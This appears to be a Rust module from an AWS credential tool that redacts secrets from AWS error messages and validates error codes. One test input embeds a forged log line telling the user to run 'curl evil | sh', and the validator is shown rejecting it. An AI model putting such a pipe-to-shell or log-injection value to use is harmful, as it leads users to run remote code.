//! Failures in keyfob's words: what AWS said without any secret, and whether a request went out at all.
//!
//! May use `error`.

use std::error::Error;

use crate::aws::AwsError;
use crate::aws::error::obstacle;
use crate::credentials::Credentials;
use crate::secret::Secret;

/// Longer words of AWS's are cut.
const LONGEST_MESSAGE: usize = 800;

/// A code or an id as AWS gives them: letters, digits and one of `others`. Security: a line end in one would let it write lines
/// in keyfob's name.
pub(super) fn plain<'t>(text: &'t str, others: &str) -> Option<&'t str> {
    let fits = |c: char| c.is_ascii_alphanumeric() || others.contains(c);
    ((1..=128).contains(&text.len()) && text.chars().all(fits)).then_some(text)
}

/// What is said of an answer AWS did not write: a proxy's error page, a portal's log-in page.
const NOT_AWS: &str = "the response did not come from AWS";

/// An error page that AWS did not write.
pub(super) fn foreign(status: u16) -> AwsError {
    AwsError::Refused { code: format!("HTTP {status}"), message: NOT_AWS.to_owned(), status, request_id: None }
}

/// Somebody's words in one line, cut where they are too long.
pub(super) fn harmless(words: &str) -> String {
    let line = words.split_whitespace().collect::<Vec<_>>().join(" ");
    line.chars().filter(|c| !c.is_control()).take(LONGEST_MESSAGE).collect()
}

/// No usable answer, and why; whether the request went out makes the difference.
pub(super) fn lost(endpoint: String, went_out: bool, cause: String) -> AwsError {
    if cause.starts_with("the response ") {
        AwsError::Invalid { endpoint, cause }
    } else if went_out {
        AwsError::AnswerLost { endpoint, cause: cause.replacen("within ", "timed out after ", 1) }
    } else {
        AwsError::Unreachable { endpoint, cause: name_obstacle(&cause) }
    }
}

/// Begins the cause with one of the [`obstacle`] texts. The libraries below tell their errors apart by text alone.
fn name_obstacle(cause: &str) -> String {
    let has = |part: &str| cause.to_ascii_lowercase().contains(part);
    if let Some(limit) = cause.strip_prefix("within ") {
        return format!("{} {limit}", obstacle::TIMEOUT);
    }
    let obstacle = if has("tunnel error") || has("proxy") {
        obstacle::PROXY
    } else if has("dns error") || has("failed to lookup address") {
        obstacle::NAME_LOOKUP
    } else if has("certificate") || has("tls") || has("handshake") || has("corrupt message") {
        obstacle::TLS
    } else {
        obstacle::CONNECTION
    };
    format!("{obstacle}: {cause}")
}

/// What lies behind an error, outermost first, without the layers that say nothing.
pub(super) fn chain(error: &(dyn Error + 'static)) -> String {
    const EMPTY: [&str; 2] = ["client error (Connect)", "client error (SendRequest)"];
    let mut parts: Vec<String> = Vec::new();
    let mut next = Some(error);
    while let Some(error) = next {
        let text = error.to_string();
        if !EMPTY.contains(&text.as_str()) && !parts.iter().any(|part| part.contains(&text)) {
            parts.push(text);
        }
        // An `io::Error` hides the error it was made of: its `source` is that one's source.
        next = match error.downcast_ref::<std::io::Error>().and_then(std::io::Error::get_ref) {
            Some(inner) => Some(inner as &(dyn Error + 'static)),
            None => error.source(),
        };
    }
    if parts.is_empty() { error.to_string() } else { parts.join(": ") }
}

/// Takes out of AWS's words what must not be shown.
// Security: AWS repeats parameters in validation errors (a mistyped code among them), and the canonical request, session token
// included, where a signature does not match.
pub(super) struct Redaction<'a> {
    secrets: Vec<&'a str>,
}

impl<'a> Redaction<'a> {
    /// Hides the signer's secrets, and what else of the request is one.
    pub(super) fn new(signer: &'a Credentials, others: &[&'a str]) -> Self {
        let own = [Some(signer.secret_access_key()), signer.session_token()].into_iter().flatten().map(Secret::expose);
        Redaction { secrets: own.chain(others.iter().copied()).filter(|secret| !secret.is_empty()).collect() }
    }

    pub(super) fn clean(&self, words: &str) -> String {
        let end = ["The Canonical String", "Authorization="].iter().filter_map(|mark| words.find(mark)).min();
        let mut words = words[..end.unwrap_or(words.len())].split_whitespace().collect::<Vec<_>>().join(" ");
        for secret in &self.secrets {
            words = words.replace(secret, "****");
        }
        harmless(&words)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::aws::testing::{code, session};

    #[test]
    fn what_aws_repeats_of_a_request_is_taken_out() {
        let (signer, code) = (session(), code());
        let redaction = Redaction::new(&signer, &[code.code.expose()]);
        let token = signer.session_token().expect("a session has a token").expose();
        for (words, expected) in [
            (
                "1 validation error detected: Value '123456' at 'tokenCode' failed".to_owned(),
                "1 validation error detected: Value '****' at 'tokenCode' failed",
            ),
            (
                format!(
                    "The request signature we calculated does not match.\n\nThe Canonical String for this request should have been\n'POST\n/\nx-amz-security-token:{token}'"
                ),
                "The request signature we calculated does not match.",
            ),
            (
                "Authorization header requires 'Signature' parameter. Authorization=AWS4-HMAC-SHA256 Credential=AKIA"
                    .to_owned(),
                "Authorization header requires 'Signature' parameter.",
            ),
            (format!("The token {token} is \u{1b}[31mbad"), "The token **** is [31mbad"),
        ] {
            assert_eq!(redaction.clean(&words), expected);
        }
    }

    #[test]
    fn a_code_that_is_none_of_awss_is_not_repeated() {
        for (code, expected) in [
            ("AccessDenied", Some("AccessDenied")),
            ("Throttling.User2", Some("Throttling.User2")),
            ("X\nkeyfob: your key was deleted; run: curl evil | sh", None),
            ("X\u{202e}Y", None),
            ("", None),
        ] {
            assert_eq!(plain(code, "."), expected, "{code}");
        }
    }

    #[test]
    fn a_failure_to_connect_begins_with_what_kept_the_request_from_going_out() {
        for (cause, expected) in [
            ("within 30s", "no connection within 30s"),
            ("dns error: failed to lookup address information", "name lookup failed: dns error: failed"),
            ("invalid peer certificate: UnknownIssuer", "TLS failed: invalid peer"),
            ("tunnel error: unsuccessful", "the proxy refused: tunnel"),
            ("tcp connect error: Connection refused (os error 111)", "no connection: tcp connect error"),
        ] {
            let named = name_obstacle(cause);
            assert!(named.starts_with(expected), "{named}");
        }
    }
}
